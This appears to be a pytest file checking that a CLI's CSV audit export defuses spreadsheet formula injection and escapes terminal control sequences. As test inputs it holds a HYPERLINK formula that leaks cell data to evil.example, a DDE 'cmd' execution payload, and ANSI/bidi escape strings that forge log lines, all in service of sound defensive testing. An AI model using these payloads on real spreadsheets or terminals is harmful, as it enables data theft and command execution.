"""`cockpit audit --csv`: what others typed never runs in the operator's spreadsheet or terminal.

An audit record's reason, client name and message come from whoever reached the control socket,
a read-only viewer's refused command included. In a file they are kept as typed except that a
cell starting like a formula (``= + - @``, tab, carriage return) gets a leading ``'``; on a
terminal each record is one line with its control characters escaped.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from cockpit.history_cli import spreadsheet_safe
from engine.vocabulary import JOURNAL_FILE, ExitCode
from tests.test_history_cli import T0, S, audit_payload, cli, write_journal

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def _records(out: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out, newline="")))


def test_a_formula_typed_into_the_socket_is_text_in_the_spreadsheet(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        ("audit", T0 + S, audit_payload(1) | {"reason": FORMULA, "client": "@SUM(A1:A9)"}),
        (
            "audit",
            T0 + 2 * S,
            audit_payload(2) | {"reason": "+1+1", "message": "-cmd|' /C calc'!A0"},
        ),
        ("audit", T0 + 3 * S, audit_payload(3) | {"reason": "-1.5", "client": "\tx"}),
        ("audit", T0 + 4 * S, audit_payload(4) | {"reason": "plain = fine"}),
    ]
    write_journal(tmp_path / JOURNAL_FILE, rows)
    code, out, _ = cli(capsys, "audit", "--csv", "--data-dir", str(tmp_path))
    assert code == ExitCode.OK
    first, second, third, fourth = _records(out)
    assert first["reason"] == "'" + FORMULA and first["client"] == "'@SUM(A1:A9)"
    assert second["reason"] == "'+1+1" and second["message"] == "'-cmd|' /C calc'!A0"
    # A number stays a number; text starting with a tab is text; the rest exactly as typed.
    assert third["reason"] == "-1.5" and third["client"] == "'\tx"
    assert fourth["reason"] == "plain = fine"
    assert fourth["user"] == "alice" and fourth["action"] == "pause"


@pytest.mark.parametrize("value", ["=1", "+a", "-a", "@a", "\ta", "\ra"])
def test_each_formula_start_is_defused(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["a=1", " =1", "-2", "+3.5", "1e5", "", 7, None, True])
def test_what_cannot_start_a_formula_is_unchanged(value: object) -> None:
    assert spreadsheet_safe(value) == value


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_on_a_terminal_each_record_is_one_escaped_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    nasty = "line one\n2024 forged line\r\x1b[2J\x1b]0;title\x07\u202eevil"
    write_journal(
        tmp_path / JOURNAL_FILE,
        [
            ("audit", T0 + S, audit_payload(1) | {"reason": nasty}),
            ("audit", T0 + 2 * S, audit_payload(2)),
        ],
    )
    screen = _Terminal()
    monkeypatch.setattr("sys.stdout", screen)
    from cockpit.cli import build_parser
    from cockpit.history_cli import run_history

    args = build_parser().parse_args(["audit", "--csv", "--data-dir", str(tmp_path)])
    assert run_history(args) == ExitCode.OK
    shown = screen.getvalue()
    assert not any(c in shown for c in "\r\x1b\x07\u202e")
    header, first, second = shown.splitlines()
    assert header.startswith("time,seq,")
    assert "line one\\n2024 forged line" in first and ",1,alice," in first
    assert ",r2," in second and "forged" not in second
